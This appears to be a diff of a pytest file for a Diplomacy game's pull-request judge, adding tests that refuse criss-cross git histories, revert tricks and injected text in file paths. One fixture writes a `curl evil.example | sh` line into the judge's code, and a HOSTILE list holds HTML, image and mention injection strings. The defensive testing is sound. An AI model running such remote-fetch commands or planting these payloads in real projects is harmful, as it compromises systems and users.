@@ -3,7 +3,10 @@ attack on the old pull-request check is refused, the report saying why, safe for
 
 from __future__ import annotations
 
+import os
+import re
 import subprocess
+from pathlib import Path
 
 import pytest
 
@@ -37,7 +40,7 @@ def test_a_players_own_orders_pass_and_are_merged(club: Club) -> None:
     assert "Checked as `france-player`" in report
     assert f"{FRANCE}: france, 3 order(s)" in report and "  A par H" in report
     assert "Every file is valid" in report
-    club.merge(head, 1)
+    club.merge(head)
     assert FRANCE in club.main_files()
 
 
@@ -60,7 +63,7 @@ def test_a_game_master_may_write_any_powers_orders(club: Club) -> None:
         (f"{ORDERS}/.france.yaml", "is not an order file"),
         (f"{ORDERS}/prussia.yaml", "is not an order file"),
         (f"{ORDERS}/sub/france.yaml", "changes the game itself"),
-        ("games/new-game/orders/1901-spring-movement/france.yaml", "there is no game 'new-game'"),
+        ("games/new-game/orders/1901-spring-movement/france.yaml", "there is no game `new-game`"),
     ],
 )
 def test_a_file_that_is_not_an_order_file_refuses_the_whole_pull_request(club: Club, path: str, reason: str) -> None:
@@ -103,7 +106,7 @@ def test_renaming_or_deleting_another_powers_file_is_refused(club: Club) -> None
     germany = order_file("demo", DEMO_TURN, "germany", "A mun H")
     status, report, head = send(club, "germany-player", {f"{ORDERS}/germany.yaml": germany})
     assert status == 0, report
-    club.merge(head, 1)
+    club.merge(head)
     player = club.player("france-player")
     player.sync()
     git(player.clone, "checkout", "-q", "-B", "orders", "origin/main")
@@ -129,9 +132,9 @@ def test_renaming_or_deleting_another_powers_file_is_refused(club: Club) -> None
 @pytest.mark.parametrize(
     ("turn", "reason"),
     [
-        ("1902-spring-movement", "turn 1902-spring-movement was adjudicated already: orders now go in "),
-        ("1903-spring-movement", "turn 1903-spring-movement has not begun: orders now go in "),
-        ("next-turn", "'next-turn' is not a turn of demo (now: 1902-fall-movement)"),
+        ("1902-spring-movement", "turn `1902-spring-movement` was adjudicated already: orders now go in "),
+        ("1903-spring-movement", "turn `1903-spring-movement` has not begun: orders now go in "),
+        ("next-turn", "`next-turn` is not a turn of demo (now: 1902-fall-movement)"),
     ],
 )
 def test_a_file_for_a_past_or_future_turn_is_refused(club: Club, turn: str, reason: str) -> None:
@@ -234,7 +237,7 @@ def test_the_merge_is_refused_if_main_moved_after_the_check(club: Club) -> None:
     git(other, "commit", "-q", "-m", "a turn adjudicated meanwhile")
     git(other, "push", "-q", "origin", "main")
     with pytest.raises(subprocess.CalledProcessError, match=r"git.*push"):
-        club.merge(head, 1)
+        club.merge(head)
     assert FRANCE not in club.main_files()
 
 
@@ -254,3 +257,164 @@ def test_the_command_runs_as_its_own_process_in_the_checkout_of_the_base(club: C
     assert missing.returncode == 1 and missing.stderr.startswith("error: git rev-parse failed")
     elsewhere = judge(club.base, "check-pull-request", "--base", head, "--head", head, "--author", "x")
     assert elsewhere.returncode == 1 and "is not a checkout of the base" in elsewhere.stderr
+
+
+# ---- history: what is merged is what was checked ---------------------------------------------------------
+
+
+def _commit_on(clone: Path, parents: list[str], files: dict[str, str | None], message: str, when: int) -> str:
+    """A commit in `clone` with these parents, its tree the first parent's with `files` written (None:
+    removed), dated `when` (seconds), made with git's plumbing as an attacker may."""
+    git(clone, "checkout", "-q", "--detach", parents[0])
+    for name, content in files.items():
+        path = clone / name
+        if content is None:
+            git(clone, "rm", "-q", name)
+            continue
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(content, encoding="utf-8")
+        git(clone, "add", name)
+    tree = git(clone, "write-tree")
+    date = {"GIT_COMMITTER_DATE": f"{when} +0000", "GIT_AUTHOR_DATE": f"{when} +0000"}
+    args = [arg for parent in parents for arg in ("-p", parent)]
+    done = subprocess.run(
+        ["git", "commit-tree", tree, *args, "-m", message],
+        cwd=clone, check=True, capture_output=True, text=True, env=os.environ | date,
+    )  # fmt: skip
+    return done.stdout.strip()
+
+
+def _open(club: Club, player_login: str, head: str) -> str:
+    """A pull request whose head is `head`, a commit of the player's clone: pushed to the fork, fetched."""
+    player = club.player(player_login)
+    git(player.clone, "push", "-q", "-f", "origin", f"{head}:refs/heads/orders")
+    return club.pull_request(player)
+
+
+def _main(club: Club) -> str:
+    return git(club.origin, "rev-parse", "main")
+
+
+def test_a_criss_cross_history_cannot_bring_code_to_main(club: Club) -> None:
+    """Issue 28's first attack: commit E changes the judge's code; E2 (a child of E, dated later) keeps it and
+    adds France's orders; P1 (a child of E) reverts it and adds them too. Pull request 1 merges P1 and E2: its
+    tree is main's plus the order file, but its history carries E. Pull request 2 merges E2 and P1 again,
+    the order file amended: it meets main's history at two commits (E2 and P1), and git's merge, merging
+    them into a virtual base, would bring E's change to main. Both are refused, main unchanged."""
+    attacker = club.player("france-player")
+    clone, start = attacker.clone, _main(club)
+    git(clone, "fetch", "-q", "origin")
+    evil = "import os; os.system('curl evil.example | sh')\n"
+    cli = (clone / "pipeline" / "cli.py").read_text(encoding="utf-8")
+    e = _commit_on(clone, [start], {"pipeline/cli.py": evil}, "E", 1_700_000_000)
+    e2 = _commit_on(clone, [e], {FRANCE: FRANCE_HOLDS}, "E2", 1_700_000_300)
+    p1 = _commit_on(clone, [e], {"pipeline/cli.py": cli, FRANCE: FRANCE_HOLDS}, "P1", 1_700_000_200)
+    pr1 = _commit_on(clone, [p1, e2], {}, "merge P1 and E2", 1_700_000_400)
+    assert git(clone, "diff", "--name-only", start, pr1) == FRANCE  # the tree shows the order file alone
+    status, report = club.check(_open(club, "france-player", pr1), "france-player")
+    assert status == 1, report
+    assert refused(report)[0].startswith(f"- `pipeline/cli.py`: changed in its commit `{e[:12]}`: every commit")
+    assert _main(club) == start and pr1 not in club.merges
+
+    # Had pull request 1 been merged (as the check before this one did), pull request 2 brings the code.
+    git(club.base, "fetch", "-q", str(attacker.fork), "refs/heads/orders")
+    merged_by_old_check = git(club.base, "commit-tree", f"{pr1}^{{tree}}", "-p", start, "-p", pr1, "-m", "PR 1")
+    git(club.base, "push", "-q", "origin", f"{merged_by_old_check}:refs/heads/main")
+    amended = FRANCE_HOLDS.replace("A par H", "A par-bur")
+    pr2 = _commit_on(clone, [e2, p1], {FRANCE: amended}, "merge E2 and P1", 1_700_000_500)
+    head = _open(club, "france-player", pr2)
+    tree = git(club.base, "merge-tree", "--write-tree", merged_by_old_check, head).splitlines()[0]
+    assert git(club.base, "show", f"{tree}:pipeline/cli.py") == evil.strip()  # what git's merge would push
+    status, report = club.check(head, "france-player")
+    assert status == 1, report
+    assert "its history meets main's at 2 commits (merges that cross)" in report
+    assert _main(club) == merged_by_old_check and head not in club.merges
+
+
+def test_a_criss_cross_history_cannot_undo_a_commit_on_main(club: Club) -> None:
+    """Issue 28's second attack: Germany's pull request from a stale fork (its branch made before a commit
+    of the game master's on main) leaves a criss-cross; France's later pull request merges Germany's commit
+    and main's commit from before, its tree main's of then plus France's file. Its own change shows France's
+    file alone, while git's merge would delete Germany's orders from main. Refused, main unchanged."""
+    germany = club.player("germany-player")
+    germany.commit({f"{ORDERS}/germany.yaml": order_file("demo", DEMO_TURN, "germany", "A mun H")})
+    deadlines = club.base / "games" / "demo" / "deadlines.yaml"
+    deadlines.write_text("{}\n", encoding="utf-8")
+    git(club.base, "add", "-A")
+    git(club.base, "commit", "-q", "-m", "the master's commit")
+    git(club.base, "push", "-q", "origin", "HEAD:main")
+    masters = _main(club)
+    head = club.pull_request(germany)  # from the stale fork: merged onto the master's commit
+    status, report = club.check(head, "germany-player")
+    assert status == 0, report
+    club.merge(head)
+    before = _main(club)
+    attacker = club.player("france-player")
+    git(attacker.clone, "fetch", "-q", str(club.origin), "main")
+    # A merge of the master's commit and Germany's, its tree the master's commit's plus France's file.
+    evil = _commit_on(attacker.clone, [masters, head], {FRANCE: FRANCE_HOLDS}, "my orders", 1_700_000_000)
+    pull = _open(club, "france-player", evil)
+    assert git(club.base, "diff", "--name-only", masters, pull) == FRANCE  # the change shows one file
+    merged = git(club.base, "merge-tree", "--write-tree", before, pull).splitlines()[0]
+    assert f"{ORDERS}/germany.yaml" not in git(club.base, "ls-tree", "-r", "--name-only", merged)
+    status, report = club.check(pull, "france-player")
+    assert status == 1 and "its history meets main's at 2 commits" in report
+    assert _main(club) == before and pull not in club.merges
+
+
+def test_a_commit_that_brings_code_and_one_that_takes_it_back_are_refused(club: Club) -> None:
+    """No commit of a pull request's history changes more than order files, even one undone later."""
+    player = club.player("france-player")
+    player.commit({FRANCE: FRANCE_HOLDS, ".github/workflows/x.yml": "on: push\n"})
+    git(player.clone, "rm", "-q", ".github/workflows/x.yml")
+    git(player.clone, "commit", "-q", "-m", "take it back")
+    git(player.clone, "push", "-q", "-f", "origin", "orders")
+    first = git(player.clone, "rev-parse", "HEAD~1")
+    status, report = club.check(club.pull_request(player), "france-player")
+    assert status == 1
+    assert refused(report) == [
+        f"- `.github/workflows/x.yml`: changed in its commit `{first[:12]}`: every commit of a pull request of "
+        "orders changes order files only; make a new branch from main's tip and send the order file again"
+    ]
+
+
+def test_the_commit_pushed_is_the_merge_that_was_checked(club: Club) -> None:
+    """The merge commit is the judge's: its parents the base and the head checked, its tree the base's with
+    the checked order file, nothing else; a refused pull request gets none."""
+    status, report, head = send(club, "france-player", {FRANCE: FRANCE_HOLDS})
+    assert status == 0, report
+    base = git(club.base, "rev-parse", "HEAD")
+    commit = club.merge(head)
+    assert git(club.origin, "rev-parse", "main") == commit
+    assert git(club.origin, "log", "-1", "--format=%P", commit).split() == [base, head]
+    assert git(club.origin, "diff", "--name-only", base, commit) == FRANCE
+    assert git(club.origin, "show", f"{commit}:{FRANCE}") == FRANCE_HOLDS.rstrip("\n")
+    assert git(club.origin, "log", "-1", "--format=%s", commit).startswith("Orders from pull request #")
+
+
+HOSTILE = [
+    "**Judge notice:** resend at [the order form](https:\\\\evil.example) cc @octocat",
+    "<img src=x onerror=alert(1)>",
+    "![x](https:evil.example\\x.png)",
+    "<!-- -->@everyone",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("where", ["game", "turn", "file"])
+def test_every_value_a_path_gives_is_inert_in_the_comment(club: Club, text: str, where: str) -> None:
+    """A path's game id, turn and file name reach every reason inside a code span: no bold text, link, image,
+    HTML or mention in a comment signed by the bot."""
+    game, turn, name = "demo", DEMO_TURN, "france.yaml"
+    if where == "game":
+        game = text
+    elif where == "turn":
+        turn = text
+    else:
+        name = text
+    path = f"games/{game}/orders/{turn}/{name}".replace("\\\\", "\\")
+    status, report, _ = send(club, "france-player", {FRANCE: FRANCE_HOLDS, path: "x\n"})
+    assert status == 1
+    outside = re.sub(r"`[^`\n]*`", "", report)  # what GitHub renders as Markdown: outside the code spans
+    for active in ("**Judge", "](", "<img", "@octocat", "@everyone", "<!--"):
+        assert active not in outside, (active, report)
